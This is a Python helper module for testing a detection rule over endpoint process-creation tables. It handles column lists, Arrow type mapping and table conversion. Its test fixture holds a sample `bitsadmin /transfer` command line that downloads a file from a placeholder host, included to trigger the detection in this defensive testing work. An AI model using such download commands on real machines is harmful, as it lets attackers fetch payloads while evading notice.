"""Tables of the suite in the forms that users have."""

from typing import Any, TypeAlias

import pyarrow as pa

Table: TypeAlias = dict[str, Any]

#: What the rule adds; every other column it only passes on.
ADDED = ["ParsedCommandLine", "RemoteUrl", "LocalFile", "Direction", "HostName", "DnsDomain"]

#: The columns that the rule needs.
NEEDED = [
    "TimeGenerated",
    "DeviceId",
    "DeviceName",
    "FileName",
    "ProcessId",
    "InitiatingProcessFolderPath",
    "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName",
    "InitiatingProcessSHA256",
    "ProcessCommandLine",
]

TYPES: dict[str, pa.DataType] = {
    "string": pa.string(),
    "bool": pa.bool_(),
    "int": pa.int32(),
    "long": pa.int64(),
    "real": pa.float64(),
    "datetime": pa.timestamp("us", "UTC"),
    "timespan": pa.duration("us"),
    "guid": pa.binary(16),
    "dynamic": pa.list_(pa.string()),
}


def event(**cells: Any) -> dict[str, Any]:
    """A process creation that the rule selects, but for the cells that are given."""
    chosen = {
        "FileName": "bitsadmin.exe",
        "DeviceName": "ws07.corp.example",
        "ProcessCommandLine": r"bitsadmin /transfer j http://x/a C:\a",
    }
    return dict.fromkeys(NEEDED, "") | {"ProcessId": 7} | chosen | cells


def names(table: Table) -> list[str]:
    """The names of a table's columns."""
    return [column["name"] for column in table["columns"]]


def cells_of(table: Table, at: int, texts: pa.DataType) -> pa.Array:
    """A column of Arrow: its texts where it is of strings, else nothing but null."""
    if table["columns"][at]["type"] != "string":
        return pa.nulls(len(table["rows"]), TYPES[table["columns"][at]["type"]])
    cells = pa.array([row[at] for row in table["rows"]], pa.string())
    return cells.dictionary_encode() if texts == "dictionary" else cells.cast(texts)


def to_arrow(table: Table, texts: Any = pa.string(), number: str = "#") -> pa.Table:
    """A table of Arrow, with a last column of the rows' numbers."""
    columns = [cells_of(table, at, texts) for at in range(len(table["columns"]))]
    numbers = pa.array(range(len(table["rows"])), pa.int64())
    return pa.Table.from_arrays([*columns, numbers], names=[*names(table), number])


def from_arrow(answer: pa.Table, table: Table, number: str = "#") -> Table:
    """The rule's answer over `to_arrow`: what it added by Arrow, the rest as it was."""
    types = {column["name"]: column["type"] for column in table["columns"]}
    types |= dict.fromkeys(ADDED, "string") | {"ParsedCommandLine": "dynamic"}
    columns = [name for name in answer.column_names if name != number]

    def cell(row: dict[str, Any], name: str) -> Any:
        if name in ADDED:
            return row[name]
        value = table["rows"][row[number]][names(table).index(name)]
        return "" if value is None and types[name] == "string" else value

    rows = [[cell(row, name) for name in columns] for row in answer.to_pylist()]
    return {"columns": [{"name": name, "type": types[name]} for name in columns], "rows": rows}
